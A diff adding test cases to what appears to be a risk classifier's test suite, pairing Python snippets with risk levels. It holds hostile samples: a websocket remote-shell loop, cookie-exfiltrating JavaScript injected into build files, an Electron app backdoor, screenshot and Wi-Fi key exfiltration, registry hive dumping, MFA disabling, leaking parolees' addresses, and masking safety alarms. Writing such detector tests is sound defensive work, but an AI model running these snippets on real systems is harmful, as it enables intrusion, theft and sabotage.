@@ -6612,6 +6612,133 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '        f.write(s.recvfrom(2048)[0])',
             H,
         ),
+        (
+            'import asyncio, subprocess, websockets\n'
+            '\n'
+            'async def main():\n'
+            "    async with websockets.connect('wss://relay.example.dev/s') as ws:\n"
+            '        while True:\n'
+            '            cmd = await ws.recv()\n'
+            '            subprocess.run(cmd, shell=True)\n'
+            '\n'
+            'asyncio.run(main())',
+            C,
+        ),
+        (
+            'import asyncio, json, websockets\n'
+            '\n'
+            'async def main():\n'
+            "    async with websockets.connect('wss://feed.example.dev/prices') as ws:\n"
+            '        msg = json.loads(await ws.recv())\n'
+            "        print(msg['price'])\n"
+            '\n'
+            'asyncio.run(main())',
+            S,
+        ),
+        (
+            'from pathlib import Path\n'
+            'JS = ";fetch(\'https://stats.example-cdn.io/c\',{method:\'POST\',body:document.cooki'
+            'e});"\n'
+            "for f in Path('dist').glob('*.js'):\n"
+            '    f.write_text(f.read_text() + JS)',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            'JS = ";console.log(\'build \' + BUILD_ID);"\n'
+            "for f in Path('dist').glob('*.js'):\n"
+            '    f.write_text(f.read_text() + JS)',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['npx', '@electron/asar', 'extract', '/opt/Signal/resources/app.a"
+            "sar', '/tmp/s'])\n"
+            'open(\'/tmp/s/main.js\', \'a\').write(\'require("child_process").exec(process.env.X)\''
+            ')\n'
+            "subprocess.run(['npx', '@electron/asar', 'pack', '/tmp/s', '/opt/Signal/resource"
+            "s/app.asar'])",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['npx', '@electron/asar', 'extract', 'dist/app.asar', 'build/insp"
+            "ect'])",
+            L,
+        ),
+        (
+            'import json\n'
+            "policy = {'ExtensionInstallForcelist': ['abcdefghijklmnopabcdefghijklmnop;https:"
+            "//ext.example-updates.net/u.xml']}\n"
+            "open('/etc/opt/chrome/policies/managed/p.json', 'w').write(json.dumps(policy))",
+            H,
+        ),
+        (
+            'import subprocess, requests, time\n'
+            "ps = '[System.Windows.Forms.Screen]::PrimaryScreen; $g.CopyFromScreen(0, 0, 0, 0"
+            ", $s)'\n"
+            'while True:\n'
+            "    subprocess.run(['powershell.exe', '-c', ps])\n"
+            "    requests.post('https://drop.example.cc/u', files={'s': open('/mnt/c/Users/Pu"
+            "blic/s.png', 'rb')})\n"
+            '    time.sleep(30)',
+            H,
+        ),
+        (
+            'import subprocess, requests\n'
+            "out = subprocess.run(['netsh.exe', 'wlan', 'show', 'profile', 'name=Home', 'key="
+            "clear'], capture_output=True, text=True).stdout\n"
+            "requests.post('https://api.telegram.org/botX/sendMessage', data={'text': out})",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            "for hive in ('SAM', 'SECURITY'):\n"
+            "    subprocess.run(['reg.exe', 'save', f'HKLM\\\\{hive}', f'C:\\\\Temp\\\\{hive}.hiv']"
+            ')',
+            H,
+        ),
+        (
+            'import shutil\n'
+            "shutil.rmtree('/mnt/c/Users/dana/source/repos/api/build', ignore_errors=True)",
+            M,
+        ),
+        (
+            'import shutil\n'
+            "shutil.rmtree('/mnt/c/Users/dana/Pictures')",
+            H,
+        ),
+        (
+            'import os, psycopg2\n'
+            "c = psycopg2.connect(os.environ['DSN'])\n"
+            'c.cursor().execute("UPDATE settings SET value = \'false\' WHERE key = \'require_mfa'
+            '\'")',
+            H,
+        ),
+        (
+            'import os, psycopg2\n'
+            "c = psycopg2.connect(os.environ['DSN'])\n"
+            'c.cursor().execute("UPDATE settings SET value = \'false\' WHERE key = \'show_banner'
+            '\'")',
+            S,
+        ),
+        (
+            'import sqlite3, smtplib\n'
+            'from email.message import EmailMessage\n'
+            "rows = sqlite3.connect('/var/lib/po/db.sqlite').execute('SELECT name, home_addre"
+            "ss FROM parolees').fetchall()\n"
+            'm = EmailMessage()\n'
+            "m['To'] = 'lists@gmail.com'\n"
+            'm.set_content(str(rows))\n'
+            "smtplib.SMTP_SSL('smtp.gmail.com', 465).send_message(m)",
+            C,
+        ),
+        (
+            'import subprocess\n'
+            "for unit in ('coldchain-alarm', 'temp-logger'):\n"
+            "    subprocess.run(['systemctl', 'mask', '--now', unit])",
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
